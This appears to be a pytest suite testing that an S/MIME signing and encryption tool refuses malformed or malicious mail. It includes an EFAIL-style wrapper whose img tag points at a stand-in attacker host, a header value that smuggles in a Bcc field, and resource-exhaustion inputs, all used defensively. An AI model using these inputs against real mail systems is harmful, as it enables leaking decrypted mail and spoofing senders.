"""What somebody sends who means no good, or what a server on the way has spoiled: a clear answer in bounded time and memory."""

import base64
import sys

import pytest
from mail_fixtures import mail, people, program  # noqa: F401 (fixtures)
from mail_people import TEXT, body, entity, message, openssl

LIMIT = 16  # MB, which is promised for messages of any size


def writer(code):
    """A command that writes a message that would be large to keep."""
    return [sys.executable, "-c", "import sys; out = sys.stdout.buffer\ntry:\n " + code.replace("\n", "\n ") + "\nexcept BrokenPipeError: pass"]


@pytest.fixture
def signed(mail, people):
    return mail("sign", message("ann"), *people.own("ann")).text


@pytest.fixture
def encrypted(mail, people):
    return mail("encrypt", message("ann"), "--to", people.certificate("bob"), *people.own("ann")).text


def refused(run, *words, codes=(2, 65)):
    assert run.code in codes, (run.code, run.err)
    assert run.text == ""
    for word in words:
        assert word in run.err, run.err
    return True


@pytest.mark.parametrize("what", ["encrypt", "sign", "decrypt", "verify", "show"])
def test_of_nothing_nothing_is_made(mail, people, what):
    """What should have written the message has failed, most likely."""
    options = {"encrypt": ["--to", people.certificate("bob")], "sign": people.own("ann"), "decrypt": people.own("bob")}
    assert refused(mail(what, "", *options.get(what, [])), "there is nothing in it", codes=(65,))


def test_what_is_cut_off_is_said_to_be(mail, people, signed, encrypted):
    for share in (0.2, 0.5, 0.8, 0.99):
        assert refused(mail("verify", signed[:int(len(signed) * share)], "--trust", people.root))
        assert refused(mail("decrypt", encrypted[:int(len(encrypted) * share)], *people.own("bob")))
    assert "end is missing" in mail("decrypt", encrypted[:len(encrypted) // 2], *people.own("bob")).err


def test_a_message_that_a_server_has_encoded_anew_is_not_believed(mail, people):
    run = mail("sign", message("ann", "caf\u00e9\n", content_type="text/plain; charset=utf-8"), *people.own("ann"))
    assert run.code == 0 and "beyond ASCII" in run.err
    recoded = run.text.replace("caf\u00e9", "caf=C3=A9")
    assert refused(mail("verify", recoded, "--trust", people.root), "changed after it was signed")


def test_line_ends_may_be_mangled_either_way(mail, people, signed, encrypted):
    for name, text in (("verify", signed), ("decrypt", encrypted)):
        options = ["--trust", people.root, *(people.own("bob") if name == "decrypt" else [])]
        for mangled in (text.replace("\n", "\r\n"), text):
            run = mail(name, mangled, *options)
            assert run.code == 0, run.err
            assert body(run.out.read_bytes()) == TEXT


@pytest.mark.parametrize("field", ["From: boss@example.com\n", "Content-Type: text/plain\n"])
def test_fields_that_stand_there_twice_are_refused(mail, people, signed, field):
    assert refused(mail("verify", field + signed, "--trust", people.root), "two" if "Content" in field else "2 From")
    assert refused(mail("sign", field + message("ann"), *people.own("ann")), codes=(65,) if "Content" in field else (2,))


@pytest.mark.parametrize("field", [b"Subject: x\rBcc: eve@example.net\n", b"Subject: x\0y\n", b"no field at all\n"])
def test_fields_that_programs_read_differently_are_refused(mail, people, field):
    for command in ("sign", "encrypt"):
        options = ["--to", people.certificate("bob")] if command == "encrypt" else []
        assert refused(mail(command, field + message("ann").encode(), *options, *people.own("ann")), "header")


def test_a_sender_who_is_hard_to_tell_is_refused(mail, people, signed):
    for sender in ("boss@example.com <ann@example.com>", "ann@example.com, boss@example.com", "", "ann", '"ann@example.com" <boss@example.com>'):
        text = signed.replace("Somebody <ann@example.com>", sender, 1)
        assert refused(mail("verify", text, "--trust", people.root)), sender


def test_nobody_signs_as_somebody_else(mail, people):
    assert refused(mail("sign", message("bob"), *people.own("ann")), "bob@example.com", "ann@example.com", codes=(2,))
    assert refused(mail("encrypt", message("bob"), "--to", people.certificate("bob"), *people.own("ann")), codes=(2,))


def test_a_key_of_somebody_else_is_refused(mail, people):
    run = mail("sign", message("ann"), "--key", people.key("bob"), "--cert", people.certificate("ann"))
    assert run.code == 65 and "same person" in run.err
    assert mail("sign", message("ann"), "--key", people.key("ann")).code == 64
    assert mail("decrypt", message("ann")).code == 64
    assert mail("verify", message("ann"), "--from", "Ann").code == 64
    assert mail("encrypt", message("ann")).code == 64
    assert mail("sign", message("ann"), "--key", people.folder / "none", "--cert", people.certificate("ann")).code == 66


def signed_data(signers):
    """SignedData with the content of `entity()` and these SignerInfos, in DER."""
    def element(tag, *parts):
        value = b"".join(parts)
        length = bytes([len(value)]) if len(value) < 128 else b"\x82" + len(value).to_bytes(2, "big")
        return bytes([tag]) + length + value

    oid = bytes.fromhex("06092a864886f70d0107")
    inner = element(0x30, oid + b"\x01", element(0xA0, element(0x04, entity())))
    return element(0x30, oid + b"\x02", element(0xA0, element(0x30, b"\x02\x01\x01", element(0x31), inner, element(0x31, *signers))))


def as_mail(structure, kind):
    return (f"From: ann@example.com\nContent-Type: application/pkcs7-mime; smime-type={kind}\nContent-Transfer-Encoding: base64\n\n"
            + base64.encodebytes(structure).decode())


def test_a_signature_without_a_signer_is_none(mail, people):
    assert refused(mail("verify", as_mail(signed_data([]), "signed-data"), "--trust", people.root), "no signer", codes=(2,))


def test_a_type_that_lies_is_refused(mail, people, encrypted):
    assert refused(mail("verify", as_mail(signed_data([]), "enveloped-data"), "--trust", people.root), "encrypted")
    assert refused(mail("decrypt", as_mail(signed_data([]), "enveloped-data"), *people.own("bob")), "not encrypted")
    assert refused(mail("decrypt", encrypted.replace("smime-type=enveloped-data", "smime-type=signed-data"), *people.own("bob")), "not encrypted")


def test_only_the_outermost_part_counts(mail, people, signed, encrypted):
    """EFAIL, and the mails of "Johnny, you are fired"."""
    for text, command in ((signed, "verify"), (encrypted, "decrypt")):
        around = ("From: boss@example.com\nContent-Type: multipart/mixed; boundary=around\n\n--around\nContent-Type: text/html\n\n"
                  f'<img src="http://eve.example.net/\n--around\n{text}\n--around\nContent-Type: text/html\n\n">\n--around--\n')
        options = people.own("bob") if command == "decrypt" else ["--trust", people.root]
        assert refused(mail(command, around, *options), "deeper inside")


def test_parts_in_parts_have_a_limit(mail, people):
    nested = "".join(f"Content-Type: multipart/mixed; boundary=b{i}\n\n--b{i}\n" for i in range(10_000))
    run = mail("show", nested)
    assert run.code == 65 and "more than 100 deep" in run.err
    run = mail("show", "Content-Type: message/rfc822\n\n" * 10_000)
    assert run.code == 65 and "more than 100 deep" in run.err
    run = mail("show", writer('out.write(b"Content-Type: multipart/mixed; boundary=b\\n\\n" + b"--b\\n\\n\\n" * 1_000_000)'))
    assert run.code == 65 and "more than 10000 parts" in run.err and run.megabytes <= LIMIT
    # What is not gone into has no limit.
    run = mail("sign", "From: ann@example.com\n" + nested, *people.own("ann"))
    assert run.code == 0 and mail("verify", run.out, "--trust", people.root).code == 0


@pytest.mark.parametrize("command", ["sign", "encrypt", "verify", "decrypt", "show"])
def test_a_header_of_a_gigabyte_ends_soon(mail, people, command):
    options = {"sign": people.own("ann"), "encrypt": ["--to", people.certificate("bob")], "decrypt": people.own("bob")}.get(command, [])
    for line in ('b"A: " + b"x" * 60_000 + b"\\n"', 'b"x" * 65_536', 'b"A: b\\n" * 10_000'):
        run = mail(command, writer(f"for _ in range(16_000): out.write({line})"), *options)
        assert run.code == 65 and "longer than 256 KB" in run.err, run.err
        assert run.megabytes <= LIMIT and run.seconds < 5


def test_lines_of_any_length_and_number_are_fine(mail, people):
    for text in ("x" * 10_000_000, "\n" * 3_000_000, "--" * 3_000_000, "--signed\n" * 500_000, "\r" * 1_000_000):
        signed = mail("sign", message("ann", text), *people.own("ann"))
        run = mail("verify", signed.out, "--trust", people.root)
        assert run.code == 0, run.err
        assert run.text == message("ann", text)
        assert run.megabytes <= LIMIT and signed.megabytes <= LIMIT


def test_structures_that_never_end_are_refused(mail, people):
    start = bytes.fromhex("308006092a864886f70d010703a0803080")
    head = 'b"From: a@b\\nContent-Type: application/pkcs7-mime; smime-type=enveloped-data\\n\\n" + bytes.fromhex("' + start.hex() + '")'
    for more in ('b"\\x31\\x80" * 100_000', 'b"\\x31\\x84\\x7f\\xff\\xff\\xff"', 'b"\\x31\\x80" + b"\\x02\\x01\\x01" * 3_000_000'):
        run = mail("decrypt", writer(f"out.write({head} + {more})\nfor _ in range(2_000): out.write(bytes(65_536))"), *people.own("bob"))
        assert refused(run, codes=(65,))
        assert run.megabytes <= LIMIT and run.seconds < 5


def test_old_messages_open_with_the_old_key(mail, people, encrypted):
    """A renewed certificate of the same key, and the old one behind it in the file."""
    both = people.folder / "renewed.pem"
    openssl("req", "-x509", "-key", people.key("bob"), "-subj", "/CN=bob", "-days", "30", "-out", both)
    run = mail("decrypt", encrypted, "--key", people.key("bob"), "--cert", both, "--trust", people.root)
    assert refused(run, "not encrypted to this key", codes=(2,))
    both.write_text(both.read_text() + people.certificate("bob").read_text())
    assert mail("decrypt", encrypted, "--key", people.key("bob"), "--cert", both, "--trust", people.root).code == 0


def test_people_of_one_authority_know_each_other(mail, people, encrypted):
    run = mail("decrypt", encrypted, *people.own("bob"))
    assert run.code == 0 and "Signed by ann@example.com" in run.err and body(run.out.read_bytes()) == TEXT
    alone = people.folder / "alone.pem"
    alone.write_text("-----BEGIN" + people.certificate("bob").read_text().split("-----BEGIN")[1])
    run = mail("decrypt", encrypted, "--key", people.key("bob"), "--cert", alone)
    assert run.code == 1 and "trusted here" in run.err and body(run.out.read_bytes()) == TEXT
    assert mail("decrypt", encrypted, *people.own("bob"), "--trust", "system").code == 1


def test_a_file_that_somebody_may_change_is_kept_until_it_is_checked(mail, people, tmp_path):
    large = message("ann", "".join(f"line {i}\n" for i in range(300_000)))
    path = tmp_path / "signed"
    path.write_bytes(mail("sign", large, *people.own("ann")).out.read_bytes())
    with open(path, "r+b"):  # no lease is to be had
        for source in (path, ["cat", str(path)]):
            run = mail("verify", source, "--trust", people.root)
            assert run.code == 0 and run.text == large
    run = mail("verify", path, "--trust", people.root)
    assert run.code == 0 and run.text == large


def test_the_disk_may_be_full_or_missing(program, people, mail, monkeypatch):
    monkeypatch.setenv("TMPDIR", "/no/such/folder")
    encrypted = mail("encrypt", message("ann", "x" * 3_000_000), "--to", people.certificate("bob"))
    run = mail("decrypt", encrypted.out, *people.own("bob"))
    assert run.code == 73 and "TMPDIR" in run.err and run.text == ""

def test_who_wants_one_sender_gets_nothing_of_another(people, mail):
    unsigned = mail("encrypt", message("bob"), "--gcm", "--to", people.certificate("ann"))
    other = mail("encrypt", message("dan"), "--to", people.certificate("ann"), *people.own("dan"))
    for sent in (unsigned, other):
        opened = mail("decrypt", sent.out, *people.own("ann"), "--from", "bob@example.com")
        assert opened.code == 2 and opened.text == ""


def test_no_changed_letter_lets_anything_out_that_the_sender_has_not_signed(people, mail):
    """CBC lets some changes through to what is inside, where they can take the signature away."""
    whole = mail("encrypt", message("bob"), "--to", people.certificate("ann"), *people.own("bob")).text
    head, body = whole.split("\n\n", 1)
    signed = mail("decrypt", whole, *people.own("ann"), "--from", "bob@example.com")
    assert signed.code == 0
    refused = 0
    for at in range(len(body) // 8, len(body) // 2, len(body) // 150):
        if not body[at].isalnum():
            continue
        changed = head + "\n\n" + body[:at] + ("B" if body[at] != "B" else "C") + body[at + 1:]
        opened = mail("decrypt", changed, *people.own("ann"), "--from", "bob@example.com")
        assert (opened.code, opened.text) == (0, signed.text) or (opened.code in (2, 65) and opened.text == ""), (at, opened.code, opened.err)
        refused += opened.code != 0
    assert refused > 30
